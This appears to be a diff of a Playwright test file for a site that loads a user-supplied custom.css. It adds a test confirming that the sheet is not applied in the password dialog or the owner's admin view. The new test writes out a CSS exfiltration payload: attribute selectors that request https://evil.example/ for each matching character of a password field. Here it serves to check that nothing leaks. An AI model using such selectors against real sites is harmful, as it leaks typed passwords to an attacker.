@@ -23,7 +23,7 @@ test('each documented name is in the page and reached by custom.css, which wins 
   page,
   serve,
 }) => {
-  expect([SELECTORS.length, TOKENS.length]).toEqual([15, 6]);
+  expect([SELECTORS.length, TOKENS.length]).toEqual([14, 6]);
   const rules = SELECTORS.map((selector) => `${selector} { scroll-margin: 77px }`);
   const [month, day] = new Intl.DateTimeFormat('en', { timeZone: 'Asia/Shanghai', month: 'numeric', day: 'numeric' })
     .format()
@@ -44,7 +44,7 @@ test('each documented name is in the page and reached by custom.css, which wins 
   await complete(page);
   await look();
   const opened = ['capsule', 'directory', 'settings'].map((part) => `[data-part='${part}']`);
-  expect([...missing].toSorted()).toEqual([...opened, 'html[data-desk]']);
+  expect([...missing].toSorted()).toEqual(opened);
   await page.getByRole('button', { name: 'Hello, world!' }).click();
   await page.locator('[data-part="capsule"]').waitFor();
   await look();
@@ -55,9 +55,6 @@ test('each documented name is in the page and reached by custom.css, which wins 
   await page.keyboard.press('Escape');
   await page.getByRole('button', { name: '全部' }).click();
   await page.locator('[data-part="directory"]').waitFor();
-  await look();
-  expect([...missing]).toEqual(['html[data-desk]']);
-  await openDesk(page, site.url);
   await look();
   expect([...missing]).toEqual([]);
   for (const token of TOKENS) {
@@ -98,8 +95,54 @@ test('a sheet of other sites: styles and fonts are refused, nothing runs, and th
   expect(standIns.unexpected).toEqual([]);
 });
 
+test('a sheet applies to no password dialog and no desk, also if the desk is opened directly, and again afterwards', async ({
+  page,
+  serve,
+  problems,
+  standIns,
+}) => {
+  problems.expect(/401/);
+  problems.expect(/^twice: GET \S+getLinks/);
+  const reads = ['t', 'u', 'p', 'e'].map(
+    (letter) => `input[value$='${letter}'] { background: url(https://evil.example/${letter}) }`,
+  );
+  const site = await serve(
+    await withDesk({
+      site: { lockedGroups: ['个人'] },
+      files: {
+        'custom.css': [
+          'body { outline: 3px solid rgb(1, 2, 3) }',
+          '.modal-sheet input { opacity: 0.5 }',
+          ...reads,
+        ].join('\n'),
+      },
+    }),
+  );
+  const applies = (yes: boolean) =>
+    expect(page.locator('body')).toHaveCSS('outline-color', yes ? 'rgb(1, 2, 3)' : /^(?!rgb\(1, 2, 3\))/);
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  await openPage(page, site.url);
+  await complete(page);
+  await applies(true);
+  await page.goto(`${site.url}/?owner`);
+  const dialog = page.getByRole('dialog', { name: '管理' });
+  await dialog.getByLabel('密码').fill('tupe');
+  await applies(false);
+  await page.getByRole('button', { name: '关闭' }).click();
+  await applies(true);
+  await openDesk(page, site.url);
+  await applies(false);
+  await page.getByRole('button', { name: '退出管理' }).click();
+  await applies(true);
+  // Without a second request.
+  expect(requests.filter((url) => url.includes('custom.css'))).toHaveLength(3);
+  expect(requests.filter((url) => url.includes('evil'))).toEqual([]);
+  expect(standIns.unexpected).toEqual([]);
+});
+
 behindGateway(
-  'a sheet that hides everything is left out by ?plain, also at the desk, and without a network',
+  'a sheet that hides everything is left out by ?plain and by the desk, and without a network',
   async ({ page, gateway, replaceSite }) => {
     const site = await replaceSite(await withDesk({ files: { 'custom.css': HIDES_ALL } }));
     await openWithWorker(page, gateway.url);
@@ -107,8 +150,6 @@ behindGateway(
     await openPage(page, `${gateway.url}/?plain`);
     await expect(name(page)).toBeVisible();
     await openDesk(page, gateway.url);
-    await expect(deskBar(page)).toBeHidden();
-    await page.goto(`${gateway.url}/?owner&plain`);
     await expect(deskBar(page)).toBeVisible();
 
     gateway.site = undefined;
